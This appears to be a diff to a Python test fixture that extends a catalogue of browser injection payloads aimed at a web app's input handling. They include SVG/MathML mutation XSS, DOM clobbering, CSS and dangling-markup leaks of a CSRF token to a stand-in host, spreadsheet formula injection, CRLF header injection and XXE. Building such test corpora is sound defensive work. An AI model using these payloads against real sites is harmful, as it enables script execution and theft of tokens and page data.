@@ -1,8 +1,10 @@
 """What somebody might write so that it runs in another's browser.
 
 Where one of them ran it would set `window.__hit`, ask for an address below `/hit`, or show a
-dialogue.
+dialogue; where it only got in, an element or attribute stands there that names `hit`.
 """
+
+import re
 
 RUN = "window.__hit=1"
 WITH_HTML = (
@@ -15,7 +17,7 @@ WITH_HTML = (
     f"<scr<script>ipt>{RUN}</scr</script>ipt>",
     f"<img src=x onerror={RUN}>",
     f"<img src=x onerror\x0c=\x0c'{RUN}'>",
-    f"<img/src=x/onerror={RUN}>",
+    f"<img/src='x'/onerror={RUN}>",
     f'<img src="x`<script>{RUN}</script>"` `>',
     "<img src=//hit.example/hit.png>",
     "<img src=x srcset='/hit.png 1x'>",
@@ -139,8 +141,106 @@ WITH_CHARACTERS = (
     f"¼script¾{RUN}¼/script¾",
     f"\u003cscript\u003e{RUN}\u003c/script\u003e\u00a0\u200b",
 )
-ATTACKS = (*WITH_HTML, *WITH_QUOTES, *WITH_MARKDOWN, *WITH_ATTRIBUTES, *WITH_CHARACTERS)
-ALL = "\n\n".join(ATTACKS)
+WITH_FOREIGN_ELEMENTS = (  # SVG and MathML, and what parsers make of them the second time (mXSS)
+    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
+    f"<svg><set attributeName=onmouseover to={RUN} /><image href=/hit.png onload={RUN} /></svg>",
+    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload={RUN}></foreignObject>",
+    f"<svg xmlns=http://www.w3.org/2000/svg><handler type=text/javascript>{RUN}</handler></svg>",
+    f"<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
+    f"<svg><title><style><!--</style><img src=x onerror={RUN}>--></title></svg>",
+    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
+    f"<math href=javascript:{RUN}>x</math>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
+    "<math><annotation-xml encoding=text/html><iframe src=/hit></iframe></annotation-xml></math>",
+    f"<math><mi><mglyph><svg><mtext><textarea><a title='</textarea><img src=x onerror={RUN}>'>",
+    f"<table><td><svg><p><style><g title='</style><img src=x onerror={RUN}>'>",
+    f"<p><svg></p><math><xmp><b title='</xmp><img src=x onerror={RUN}>'>",
+    f"<select><noembed></select><img src=x onerror={RUN}></noembed>",
+    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
+    f"<a href='x' title='&quot;&gt;&lt;img src=x onerror={RUN}&gt;'>x</a>",
+    f"<p id='`<img src=x onerror={RUN}>'>",
+)
+WITH_CLOBBERING = (  # what our scripts and htmx look for by id, name and form
+    "<form id=write name=hit data-draft=/hit data-here=/hit><input name=csrf_token value=hit>",
+    "<a id=htmx href=/hit name=hit></a><a id=htmx href=/hit name=config></a>",
+    "<img name=querySelector><img name=getElementById><img name=hit><img name=body>",
+    "<div id=answers name=hit><div id=total class=hit>0</div></div>",
+    "<main id=cedu class=hit><a href=/hit>x</a></main>",
+    "<input id=f-body name=body form=write value=hit><output form=write name=hit></output>",
+    "<textarea id=f-title name=hit>",
+    "<input data-suggest=/hit data-script=/hit.js autofocus>",
+    "<p data-cedu=/hit class=hit>x</p>",
+    "<a data-markdown='<script>hit</script>' data-insert=hit data-copy=hit>x</a>",
+    '<meta name=htmx-config content=\'{"selfRequestsOnly":false,"hit":1}\'>',
+)
+WITH_STYLES = (  # CSS that tells or hides, and markup left open that would swallow what follows
+    "<style>input[name=csrf_token][value^=a]{background:url(/hit?a)}</style>",
+    "</style><style>*{background:url(//hit.example/hit.png)!important}",
+    f";}}@import'/hit.css';x{{--x:expression({RUN});behavior:url(/hit.htc)",
+    "#fff;background:url(/hit.png)",
+    '<p style="font-family:\'hit";x:\'>"><link rel=preload as=image href=/hit.png>',
+    "<img src='/hit?",
+    '<img src="//hit.example/hit?',
+    "<form action=/hit><textarea name=hit>",
+    "<a href=/hit target='",
+    "<base target='",
+    "<plaintext>hit",
+    "<!-- hit",
+    "<iframe src=/hit name='",
+)
+WITH_NEW_ELEMENTS = (
+    f"<dialog open oncancel={RUN} onclose={RUN}><form method=dialog action=/hit>x</form></dialog>",
+    f"<button popovertarget=hit>x</button><div popover id=hit onbeforetoggle={RUN}>x</div>",
+    f"<p is=hit-element onanimationend={RUN} onpointerrawupdate={RUN} contenteditable>x</p>",
+    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
+    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
+    f"<details ontoggle={RUN} open name=hit><summary>x</summary></details>",
+    f"<video autoplay src=x onerror={RUN} poster=/hit.png><track src=/hit default></video>",
+    f"<body onhashchange={RUN} onpageshow={RUN} background=/hit.png>",
+    "<frameset><frame src=/hit></frameset>",
+    "<portal src=/hit></portal><fencedframe src=/hit></fencedframe>",
+    "<link rel=manifest href=/hit><link rel=prefetch href=/hit><link rel=modulepreload href=/hit>",
+    "<script type=module>import '/hit.js'</script><script type=importmap>{\"imports\":{}}</script>",
+    '<script type=speculationrules>{"prefetch":[{"urls":["/hit"]}]}</script>',
+    "<img src=x srcset='//hit.example/hit.png 2x' sizes=1px><picture><source srcset=/hit.png>",
+    "<object type=text/html data='data:text/html,hit'><param name=movie value=/hit></object>",
+    "<image src=/hit.png><isindex action=/hit><bgsound src=/hit><applet code=/hit>",
+)
+WITH_ODD_LETTERS = (
+    f"<\u017fcript>{RUN}</\u017fcript>",
+    f"<scr\u0130pt>{RUN}</scr\u0130pt><\u212aeygen autofocus onfocus={RUN}>",
+    f"[x](java\u017fcript:{RUN})<a href='java\u017fcript:{RUN}'>x</a>",
+    f"\uff1cscript\uff1e{RUN}\uff1c\uff0fscript\uff1e\ufe64img src=x onerror={RUN}\ufe65",
+    f"<img src=x\u3000onerror={RUN}><img\u00a0src=x\u2003onerror={RUN}>",
+    f"<a href='\u200bjavascript:{RUN}'>x</a><a href='\u00a0javascript:{RUN}'>x</a>",
+    f"<a href='javascript\uff1a{RUN}'>x</a><a href='javascript&#0058;{RUN}'>x</a>",
+    f"<a\u0301 href=javascript:{RUN}>x</a>\u202e<gpj.tpircs/>",
+    "<a href='\\\\hit.example/hit'>x</a><img src='/\\hit.example/hit.png'>",
+    "<img src='\thttps:hit.example/hit.png'><img src='///hit.example/hit.png'>",
+)
+WITH_SEVERAL_MEANINGS = (  # right in several languages at once
+    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/"
+    f"--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
+    f"'\"--></style></script></title></textarea></noscript></template><svg/onload={RUN}>",
+    f'\\";{RUN};//</script><script>{RUN}//]]></script>',
+    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script><![CDATA[",
+    f"<?xml-stylesheet href='/hit.xsl' type='text/xsl'?><x:script xmlns:x='http://www.w3.org/1999/"
+    f"xhtml'>{RUN}</x:script>",
+    "<!DOCTYPE x [<!ENTITY hit SYSTEM '/hit'>]>&hit;",
+    '=HYPERLINK("http://hit.example/hit","x")',
+    "@SUM(1)+cmd|' /C hit'!A0",
+    "data:text/html,<script>parent.__hit=1</script>",
+    f"javascript:{RUN}",
+    f"hit\r\nSet-Cookie: hit=1\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
+)
+ATTACKS = (
+    *(*WITH_HTML, *WITH_QUOTES, *WITH_MARKDOWN, *WITH_ATTRIBUTES, *WITH_CHARACTERS),
+    *(*WITH_FOREIGN_ELEMENTS, *WITH_CLOBBERING, *WITH_STYLES, *WITH_NEW_ELEMENTS),
+    *(*WITH_ODD_LETTERS, *WITH_SEVERAL_MEANINGS),
+)
+NUMBER = re.compile(r"〔([0-9]+)〕")  # by which is known which of them is shown
+NUMBERED = tuple(f"{attack}〔{number}〕" for number, attack in enumerate(ATTACKS))
+ALL = "\n\n".join(NUMBERED)
 LINE = " ".join(ALL.replace("\0", "").split())  # for fields of one line, which take no NUL
 
 
@@ -152,4 +252,15 @@ def in_one_line(attack: str, longest: int) -> str:
 
 def printable(attack: str, longest: int) -> str:
     """Return of an attack what a name may be made of."""
-    return "".join(sign for sign in in_one_line(attack, longest) if sign.isprintable())
+    return "".join(sign for sign in in_one_line(attack, longest) if sign.isprintable()).strip()
+
+
+def packed(longest: int) -> list[str]:
+    """Return lines of at most so many signs that have every attack, as many in one as go in."""
+    lines = [""]
+    for attack in NUMBERED:
+        line = in_one_line(attack, longest)
+        if len(lines[-1]) + 1 + len(line) > longest:
+            lines.append("")
+        lines[-1] = f"{lines[-1]} {line}".strip()
+    return lines
